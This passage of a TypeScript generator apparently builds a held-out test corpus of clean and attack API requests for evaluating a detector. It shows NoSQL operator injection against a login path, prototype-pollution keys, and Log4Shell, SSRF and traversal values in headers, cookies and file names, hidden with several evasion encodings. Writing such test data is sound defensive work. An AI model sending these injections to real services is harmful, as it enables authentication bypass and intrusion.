          headers: anyClient(ctx.host, 'application/json-patch+json'),
          body: J([{ op: 'replace', path: '/title', value: pick(TITLES) }, ...ops]),
        };
      }
      // nosql operator as key: filter[password][$ne]
      const op = typeof payload === 'string' ? payload : J(payload);
      return {
        ...base,
        kind: 'rest-write',
        method: 'POST',
        path: pick(['/v1/auth/login', `${ctx.path}/query`]),
        headers: anyClient(ctx.host, ct),
        body: `{"username":"admin","${field}":${typeof payload === 'string' ? J({ $where: op }) : op}}`,
      };
    }
    case 'array': {
      if (family === 'prototype-pollution') {
        return {
          ...base,
          kind: 'rest-write',
          method: 'POST',
          path: `${ctx.path}/bulk`,
          headers: anyClient(ctx.host, ct),
          body: `{"items":[{"id":${int(1, 999)},"tags":["a"]},${objJson(payload as Record<string, unknown>)}]}`,
        };
      }
      return {
        ...base,
        kind: 'rest-write',
        method: 'POST',
        path: `${ctx.path}/bulk`,
        headers: anyClient(ctx.host, ct),
        body: J({
          items: [
            { id: int(1, 999), [field]: pick(['Field 4', 'IMG_2231.jpg', 'approved']) },
            { id: int(1, 999), [field]: payload },
          ],
        }),
      };
    }
    case 'unicode-escape': {
      if (family === 'prototype-pollution') {
        const k = J(payload).includes('__proto__')
          ? '\\u005f\\u005fproto\\u005f\\u005f'
          : 'constructo\\u0072';
        const rest = J(payload)
          .replace(/^\{"(__proto__|constructor)":/, '')
          .slice(0, -1);
        return {
          ...base,
          kind: 'merge-patch',
          method: 'PATCH',
          path: `${ctx.path}/${int(100, 9999)}`,
          headers: anyClient(ctx.host, 'application/merge-patch+json'),
          body: `{"bio":"hi","${k}":${rest}}`,
        };
      }
      const marker = `__H13_${alnum(8)}__`;
      return {
        ...base,
        kind: 'rest-write',
        method: 'POST',
        path: ctx.path,
        headers: anyClient(ctx.host, ct),
        body: J({ ...normal, [field]: marker }).replace(`"${marker}"`, unicodeEscapeJson(payload)),
      };
    }
    case 'json-in-string': {
      return {
        ...base,
        kind: 'rest-write',
        method: 'POST',
        path: `${ctx.path}/import`,
        headers: anyClient(ctx.host, ct),
        body: J({ source: 'csv-mapper', config: J({ [field]: payload, mapping: { a: 'b' } }) }),
      };
    }
    case 'base64': {
      return {
        ...base,
        kind: 'rest-write',
        method: 'POST',
        path: `${ctx.path}/import`,
        headers: anyClient(ctx.host, ct),
        body: J({
          encoding: 'base64',
          format: 'json',
          payload: b64(J({ [field]: payload, id: int(1, 999) })),
        }),
      };
    }
    case 'graphql-variable': {
      const v = family === 'prototype-pollution' ? null : payload;
      const body = J({
        operationName: 'UpdateRecord',
        query: `mutation UpdateRecord($id: ID!, $input: JSON!) { updateRecord(id: $id, input: $input) { id } }`,
        variables: { id: String(int(1, 9999)), input: v === null ? {} : { [field]: v } },
      });
      const finalBody = v === null ? body.replace('"input":{}', `"input":${J(payload)}`) : body;
      return {
        ...base,
        kind: 'graphql',
        method: 'POST',
        path: ctx.gql,
        headers: anyClient(ctx.host, ct),
        body: finalBody,
      };
    }
    case 'double-encoded': {
      const once = enc(s);
      const twice = once.replace(/%/g, '%25');
      return {
        ...base,
        kind: 'search',
        method: 'GET',
        path: `${ctx.search}?${field}=${twice}&page=1`,
        headers: anyClient(ctx.host),
        body: '',
      };
    }
    case 'query-param': {
      if (typeof payload !== 'string') {
        // bracket syntax: filter[password][$ne]=1 / __proto__[isAdmin]=true
        const flat: string[] = [];
        const walk = (prefix: string, v: unknown): void => {
          if (v && typeof v === 'object' && !Array.isArray(v)) {
            for (const [k, x] of Object.entries(v as Record<string, unknown>)) walk(`${prefix}[${k}]`, x);
          } else if (Array.isArray(v)) {
            for (const [i, x] of v.entries()) walk(`${prefix}[${i}]`, x);
          } else flat.push(`${prefix}=${enc(String(v))}`);
        };
        if (family === 'prototype-pollution') {
          for (const [k, x] of Object.entries(JSON.parse(J(payload)) as Record<string, unknown>)) walk(k, x);
        } else walk(field, payload);
        return {
          ...base,
          kind: 'search',
          method: 'GET',
          path: `${ctx.search}?${flat.join('&')}&limit=20`,
          headers: anyClient(ctx.host),
          body: '',
        };
      }
      return {
        ...base,
        kind: 'search',
        method: 'GET',
        path: `${ctx.search}?${qs({ [field]: s, page: 1 })}`,
        headers: anyClient(ctx.host),
        body: '',
      };
    }
    case 'header': {
      const hname = pick(
        family === 'log4shell'
          ? ['user-agent', 'x-forwarded-for', 'referer', 'x-api-version', 'x-client-device']
          : family === 'ssrf'
            ? ['x-callback-url', 'x-forwarded-host', 'x-original-url']
            : family === 'path-traversal'
              ? ['x-template', 'x-file-name', 'x-locale']
              : ['user-agent', 'referer', 'x-forwarded-for', 'x-device-name'],
      );
      const hv = { [hname]: s.replace(/\n/g, '%0a') };
      return rand() < 0.5
        ? {
            ...base,
            kind: 'search',
            method: 'GET',
            path: `${ctx.search}?page=${int(1, 5)}`,
            headers: anyClient(ctx.host, undefined, hv),
            body: '',
          }
        : {
            ...base,
            kind: 'rest-write',
            method: 'POST',
            path: `${ctx.path}/${int(1, 999)}/views`,
            headers: anyClient(ctx.host, ct, hv),
            body: J({ source: pick(['web', 'ios', 'android']), ts: isoTime() }),
          };
    }
    case 'cookie': {
      const h = browser(ctx.host);
      h.cookie = `session=${alnum(32)}; ${pick(['lang', 'pref', 'tracking_id', 'last_search', 'sort'])}=${family === 'nosql' || family === 'sql' ? enc(s) : s}; _ga=GA1.1.${int(100000000, 999999999)}.1764000000`;
      return {
        ...base,
        kind: 'search',
        method: 'GET',
        path: `${ctx.search}?page=${int(1, 9)}`,
        headers: h,
        body: '',
      };
    }
    case 'form': {
      let body: string;
      if (typeof payload !== 'string') {
        const parts: string[] = [];
        const walk = (prefix: string, v: unknown): void => {
          if (v && typeof v === 'object' && !Array.isArray(v))
            for (const [k, x] of Object.entries(v as Record<string, unknown>)) walk(`${prefix}[${k}]`, x);
          else if (Array.isArray(v)) for (const [i, x] of v.entries()) walk(`${prefix}[${i}]`, x);
          else parts.push(`${enc(prefix)}=${enc(String(v))}`);
        };
        if (family === 'prototype-pollution')
          for (const [k, x] of Object.entries(JSON.parse(J(payload)) as Record<string, unknown>)) walk(k, x);
        else walk(field, payload);
        body = `username=admin&${parts.join('&')}`;
      } else body = qs({ name: person(), email: email(), [field]: s, submit: 'Send' });
      return {
        ...base,
        kind: 'form',
        method: 'POST',
        path: pick(['/forms/contact', '/register/player', '/v1/auth/login', `/subscribe/${alnum(10)}`]),
        headers: browser(ctx.host, 'application/x-www-form-urlencoded'),
        body,
      };
    }
    case 'multipart': {
      const isFile = family === 'path-traversal' || family === 'command';
      const parts = isFile
        ? [
            { name: 'album_id', value: uuid() },
            {
              name: 'file',
              filename: s,
              type: 'image/jpeg',
              value: '\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF',
            },
          ]
        : family === 'prototype-pollution'
          ? [{ name: 'title', value: pick(TITLES) }, ppField(payload as Record<string, unknown>)]
          : [
              { name: 'title', value: pick(TITLES) },
              { name: field, value: s },
              { name: 'attachment', filename: 'notes.txt', type: 'text/plain', value: 'see above' },
            ];
      const m = multipart(parts);
      return {
        ...base,
        kind: 'multipart',
        method: 'POST',
        path: pick(['/v1/photos', '/api/attachments', '/v2/permits/documents', '/v1/applications']),
        headers: anyClient(ctx.host, m.ct),
        body: m.body,
      };
    }
    default: {
      // embedded
      const [a, b] = pick(SENTENCES);
      return {
        ...base,
        kind: 'prose',
        method: 'POST',
        path: `${ctx.path}/${int(1, 9999)}/comments`,
        headers: anyClient(ctx.host, ct),
        body: J({ body: `${a}${s}${b}`, author: person() }),
      };
    }
  }
}

// ---------------------------------------------------------------- build

function build(): { clean: CorpusRequest[]; attacks: CorpusRequest[] } {
  const clean: CorpusRequest[] = [];
  const gens = [...cleanGens, ...extraGens];
  const CLEAN_N = 452;
  for (let i = 0; i < CLEAN_N; i++) {
    const g = gens[i % gens.length] as Gen;
    const d = g();
    clean.push({
      id: `h13c${i + 1}`,
      kind: d.kind,
      method: d.method,
      path: d.path,
      headers: d.headers,
      body: d.body,
    });
  }
  const attacks: CorpusRequest[] = [];
  const PER_FAMILY = 33;
  for (const spec of FAMILIES) {
    for (let i = 0; i < PER_FAMILY; i++) {
      const payload = spec.payloads[i % spec.payloads.length] as Payload;
      const technique = spec.techniques[
        (i + Math.floor(i / spec.payloads.length)) % spec.techniques.length
      ] as string;
      const d = attackFor(spec, payload, technique);
      attacks.push({
        id: `h13a${attacks.length + 1}`,
        kind: d.kind,
        family: d.family,
        technique: d.technique,
        method: d.method,
        path: d.path,
        headers: d.headers,
        body: d.body,
      });
    }
  }
  return { clean, attacks };
}

/** Held-out corpus 13: clean API traffic and attacks for eight public-sector / SaaS domains. */
export const heldout13: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = build();

/** Body fields an operator would declare as rich-text HTML or source code for these APIs. */
export const HELDOUT13_EXCLUDE_FIELDS: string[] = [
  'body.announcement.body_html',
  'body.job.description_html',
  'body.template.html',
  'body.query.sql',
  'body.snippet.source',
  'body.detection.source',
  'body.remediation.code',
];

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout13.json'), `${JSON.stringify(heldout13.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout13.json'), `${JSON.stringify(heldout13.attacks, null, 2)}\n`);
  console.log(`heldout13: ${heldout13.clean.length} clean, ${heldout13.attacks.length} attacks`);
}
